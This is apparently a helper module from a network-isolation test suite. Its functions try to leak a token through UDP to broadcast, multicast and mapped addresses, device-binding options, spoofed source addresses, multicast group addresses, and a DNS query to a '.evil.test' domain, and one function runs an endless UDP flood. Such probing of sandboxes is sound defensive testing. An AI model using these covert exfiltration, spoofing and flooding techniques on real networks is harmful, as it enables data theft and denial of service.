# SPDX-License-Identifier: GPL-2.0-or-later
"""Datagrams: to odd addresses, by a device of choice, with the source of somebody else."""
import socket
import struct

import wire
from attempts import attempt, family, hexes, stay


def udp_send(a):
    """One datagram with the token. a["sport"], a["size"], a["mapped"], a["broadcast"], a["proto"]."""
    def go():
        s = socket.socket(socket.AF_INET6 if a.get("mapped") else family(a["to"]), socket.SOCK_DGRAM,
                          a.get("proto", 0))
        s.settimeout(a.get("wait", 0.5))
        if a.get("sport"):
            s.bind(("", a["sport"]))
        if a.get("broadcast"):
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        to = ("::ffff:" if a.get("mapped") else "") + a["to"]
        data = a["token"].encode().ljust(a.get("size", 0), b".")
        dev = (0, socket.if_nametoindex("a0")) if a["to"].startswith(("ff", "fe80")) else ()
        if a.get("broadcast") or dev or a["to"].startswith("224."):
            s.sendto(data, (to, a["port"]) + dev)
        else:
            s.connect((to, a["port"]))
            s.send(data)
        return s.recv(2048)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


def by_device(a):
    """A datagram that is told which device to leave by: for the whole socket, or for itself."""
    index, v6 = socket.if_nametoindex("a0"), ":" in a["to"]

    def go():
        s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
        s.settimeout(a.get("wait", 0.2))
        if a["how"] == "bound":
            s.setsockopt(socket.SOL_SOCKET, 25, b"a0")  # SO_BINDTODEVICE
        if a["how"] == "option":
            s.setsockopt(*((41, 76) if v6 else (0, 50)), struct.pack("!I", index))  # IP_UNICAST_IF
        info = (41, 50, b"\0" * 16 + struct.pack("@I", index)) if v6 else (0, 8, struct.pack("@i8x", index))
        s.sendmsg([a["token"].encode()], [info] if a["how"] == "message" else [], 0, (a["to"], a["port"]))
        return s.recv(2048)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


IPV6_FREEBIND = 78


def from_anywhere(a):
    """A socket with somebody else's address: answers go to the owner of the address. what: a question to the
    resolver, or connections to the program's own listener."""
    if a["what"] == "question":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        to, data = (a["server"], 53), wire.dns_query(a["token"] + ".evil.test")
    else:
        l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        l.bind(("::", 7777))
        l.listen(16)
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        to, data = (a["to"], 7777), None
    s.settimeout(0.5)

    def go():
        for level, name in ((socket.IPPROTO_IPV6, IPV6_FREEBIND), (socket.IPPROTO_IP, 15)) if a.get("option", 1) else ():
            s.setsockopt(level, name, 1)
        s.bind((a["from"], a.get("sport", 4444)))
        if data:
            s.sendto(data, to)
            stay(0.3)
        else:
            s.connect(to)
    return {"error": attempt(go)[1]}


def join_groups(a):
    """Multicast groups whose addresses, or the sources wanted from them, say the token."""
    index, tok = socket.if_nametoindex("a0"), a["token"].encode()
    err = None
    for i in range(0, len(tok), 13):
        part = tok[i:i + 13].ljust(13, b".")
        s = socket.socket(family("::"), socket.SOCK_DGRAM)
        v6 = lambda addr: struct.pack("@HHI16sI100x", 10, 0, 0, addr, 0)
        if a["how"] == "group":
            go = lambda: s.setsockopt(41, 20, b"\xff\x15\0" + part + struct.pack("@I", index))
        else:
            go = lambda: s.setsockopt(41, 46, struct.pack("@I4x", index) + v6(b"\xff\x35" + b"\0" * 13 + b"\1") +
                                      v6(b" \1\r" + part))
        err = attempt(go)[1] or err
        stay(0.3)
        s.close()
    return {"error": err}


def datagrams(a):
    """Sends datagrams as fast as it can until it is killed, with so many bound sockets beside it; READY before."""
    beside = []
    for _ in range(a.get("sockets", 0)):
        beside.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        beside[-1].bind(("127.0.0.1", 0))
    s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
    s.setblocking(False)
    data = a["token"].encode().ljust(a.get("size", 0), b".")
    print("READY", flush=True)
    while True:
        attempt(lambda: s.sendto(data, (a["to"], a["port"])))
